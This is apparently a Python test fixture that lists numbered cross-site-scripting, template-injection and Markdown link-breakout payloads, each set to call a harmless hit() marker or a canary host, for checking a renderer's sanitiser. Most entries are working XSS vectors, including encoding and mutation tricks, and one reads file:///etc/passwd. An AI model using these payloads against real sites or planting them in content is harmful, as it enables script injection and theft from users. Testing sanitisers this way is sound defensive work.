"""What somebody would write who wants scripts to run at readers', after the collections of OWASP and others.

Each calls `hit(its number)` in whatever reads it as code, or asks for its number at CANARY.
"""

import base64
from collections.abc import Iterator, Sequence

CANARY = "canary.example"
PICTURES = "https://example.org"  # who shows our words may ask for pictures there, and for nothing anywhere else

MARKUP = (
    # Elements that run, in all spellings.
    "<script>HIT</script>",
    "<ScRiPt>HIT</sCrIpT>",
    "<script src=//CANARY></script>",
    "<script\t>HIT</script >",
    "<script/x>HIT</script/y>",
    "<<script>HIT//<</script>",
    "<scr<script>ipt>HIT</scr</script>ipt>",
    "<script>HIT//",
    "<script type=module>HIT</script>",
    "</title><script>HIT</script>",
    "</style></textarea></xmp></noscript><script>HIT</script>",
    "--><script>HIT</script><!--",
    "]]><script>HIT</script><![CDATA[",
    "<script>alert(1)</script>",
    # Handlers of events.
    "<img src=x onerror=HIT>",
    '<img src=x:x oNeRrOr="HIT">',
    '<img """><script>HIT</script>">',
    "<img/src=x/onerror=HIT>",
    "<img src=`x`onerror=HIT>",
    "<body onload=HIT>",
    "<input autofocus onfocus=HIT>",
    "<details open ontoggle=HIT>x</details>",
    "<video><source onerror=HIT></video>",
    "<audio src=x onerror=HIT></audio>",
    "<div style='animation:x 1s' onanimationstart=HIT>x</div><style>@keyframes x{}</style>",
    "<a onmouseover=HIT onclick=HIT>x</a>",
    # Pictures and formulas that are documents.
    "<svg onload=HIT>",
    "<svg/onload=HIT//",
    "<svg><script>HIT</script></svg>",
    "<svg><script>&#104;it(NUMBER)</script></svg>",
    "<svg><animate onbegin=HIT attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:HIT"><text y=20>x</text></a></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>HIT</script>"></iframe></foreignObject></svg>',
    '<math><a xlink:href="javascript:HIT">x</a></math>',
    # Addresses and documents within the document.
    '<a href="javascript:HIT">x</a>',
    '<a href="jav&#x09;ascript:HIT">x</a>',
    '<a href="&#14; javascript:HIT">x</a>',
    '<iframe src="javascript:HIT"></iframe>',
    '<iframe srcdoc="<script>HIT</script>"></iframe>',
    '<iframe srcdoc="&lt;script&gt;HIT&lt;/script&gt;"></iframe>',
    '<object data="data:text/html,<script>HIT</script>"></object>',
    '<embed src="data:text/html;base64,BASE64">',
    '<form action="javascript:HIT"><button autofocus>x</button></form>',
    '<base href="https://CANARY/"><img src=x>',
    '<link rel=stylesheet href="//CANARY">',
    '<meta http-equiv=refresh content="0;url=https://CANARY">',
    '<meta http-equiv="refresh" content="0;url=javascript:HIT">',
    # Sheets.
    "<style>@import'//CANARY';</style>",
    "<style>*{background:url(//CANARY)}</style>",
    "<div style='background:url(//CANARY)'>x</div>",
    "<div style='width:expression(HIT)'>x</div>",
    # Templates, ours and others'.
    "{{ config.secret_key }}{{ 7 * 7 }}{% for x in config %}{{ x }}{% endfor %}",
    "{{constructor.constructor('HIT')()}}",
    "${HIT}#{HIT}<%= HIT %>",
    "%(title)s %(list)s %s %d {0} {title}",
    "<template><script>HIT</script></template>",
    # Out of an attribute.
    '" onfocus=HIT autofocus x="',
    "' onfocus=HIT autofocus x='",
    '"><img src=x onerror=HIT>',
    "'><svg onload=HIT>",
    "` onfocus=HIT autofocus x=`",
    '\\"><script>HIT</script>',
    "&quot;><img src=x onerror=HIT>",
    "&#34;&#62;&#60;img src=x onerror=HIT&#62;",
    # What changes when it is read and written again.
    '<noscript><p title="</noscript><img src=x onerror=HIT>">',
    '<xmp><p title="</xmp><svg/onload=HIT>">',
    '<listing>&lt;img onerror="HIT" src=x&gt;</listing>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=HIT&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=HIT>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=HIT>",
    "<x title='`<img src=x onerror=HIT>`'>",
    "<!--><img src=x onerror=HIT>-->",
    "<!--[if gte IE 4]><script>HIT</script><![endif]-->",
    "<select><style></select><img src=x onerror=HIT></style>",
    # Encoded once or twice, in other alphabets, from the other end.
    "&lt;script&gt;HIT&lt;/script&gt;",
    "&amp;lt;script&amp;gt;HIT&amp;lt;/script&amp;gt;",
    "+ADw-script+AD4-HIT+ADw-/script+AD4-",
    "%3Cscript%3EHIT%3C/script%3E",
    "\\u003cscript\\u003eHIT\\x3c/script\\x3e",
    "\uff1cscript\uff1eHIT\uff1c/script\uff1e",
    "\u202e>tpircs/<TIH>tpircs<\u202c <script>HIT</script>",
    "<img src=x\u00a0onerror=HIT \u2066>",
    "\u200b<\u200bscript>HIT</script>",
)
# What no announcement may hold, and an import leaves out: NULs, controls, the marks of a letter's slots.
CONTROLS = (
    "<scr\0ipt>HIT</scr\0ipt>",
    "\0<script>HIT</script>",
    "<img src=x\x0bonerror=HIT>",
    "<\x01script>HIT</script>",
    "\x1b(J<script>HIT</script>",
    "\ue000unsubscribe_url\ue001<script>HIT</script>",
)
ADDRESSES = (
    "javascript:HIT",
    "JaVaScRiPt:HIT",
    "java\tscript:HIT",
    "java\nscript:HIT",
    "&#106;avascript:HIT",
    "&#x6A&#x61&#x76&#x61script:HIT",
    "java&Tab;script:HIT",
    "javascript&colon;HIT",
    "javascript&#58;HIT",
    "&#1;javascript:HIT",
    "javascript://example.org/%0aHIT",
    "java%73cript:HIT",
    "vbscript:HIT",
    "livescript:HIT",
    "data:text/html,<script>HIT</script>",
    "data:text/html;base64,BASE64",
    "data:image/svg+xml,<svg/onload=HIT>",
    "view-source:javascript:HIT",
    "feed:javascript:HIT",
    "blob:https://example.org/HIT",
    "file:///etc/passwd",
    "//CANARY",
    "\\\\CANARY",
    "https:CANARY",
    "https://example.org/javascript:HIT",
    'https://example.org/"onmouseover="HIT',
    'https://example.org/"autofocus/onfocus="HIT',
    "https://example.org/'onmouseover='HIT",
    "https://example.org/`onmouseover=`HIT",
    'https://example.org/"><script>HIT</script>',
    "https://example.org/#<svg/onload=HIT>",
    "https://example.org/?x=&quot;><script>HIT</script>",
    'mailto:x@example.org?subject="><script>HIT</script>',
)
# Where a text may link to.
LINKS = ("[x](%s)", "[x](<%s>)", "<%s>", "![x](%s)", "[x][r]\n\n[r]: %s", "[x]\n\n[x]: <%s> 'x'")
MARKDOWN = (
    '[x](https://example.org "\\" onmouseover=HIT x=\\"")',
    "[x](https://example.org '\"><img src=x onerror=HIT>')",
    "[x](https://example.org (\"'><svg onload=HIT>))",
    '[x](<https://example.org/" onmouseover="HIT>)',
    '![" onerror="HIT](PICTURES/1.png)',
    '![x](PICTURES/2.png "\\"onerror=HIT x=\\"")',
    '![x](PICTURES/"onerror="HIT)',
    '![<img src=x onerror=HIT>](PICTURES/"><img/src=x/onerror=HIT>)',
    "[<img src=x onerror=HIT>](https://example.org)",
    "[![x](PICTURES/3.png)](javascript:HIT)",
    "[x](java\nscript:HIT)",
    "[x]( javascript:HIT)",
    "[x](https://example.org)<script>HIT</script>",
    '[a]\n\n[a]: https://example.org "\\"><script>HIT</script>"',
    '<https://example.org/"onmouseover="HIT>',
    "<x@example.org?\"onmouseover='HIT'>",
    "```\n</code></pre><script>HIT</script>\n```",
    '```"><script>HIT</script>\nx\n```',
    '``` x"onmouseover=HIT\nx\n```',
    "`</code><script>HIT</script>`",
    "    </code></pre><script>HIT</script>",
    "*<img src=x onerror=HIT>*\n***\n# <svg onload=HIT>\n=",
    "<div>\n\n<script>\n\nHIT\n\n</script>\n\n</div>",
    "<!--\n\n-->\n\n<script>HIT</script>",
)


def numbered(patterns: Sequence[str], first: int = 0) -> Iterator[tuple[int, str]]:
    """Each with its number, which it tells when it is run."""
    for number, pattern in enumerate(patterns, first):
        hit, canary = f"hit({number})", f"{CANARY}/{number}"
        encoded = base64.b64encode(f"<script>{hit}</script>".encode()).decode()
        words = {"HIT": hit, "CANARY": canary, "BASE64": encoded, "NUMBER": str(number), "PICTURES": PICTURES}
        made = pattern
        for word, what in words.items():
            made = made.replace(word, what)
        yield number, made
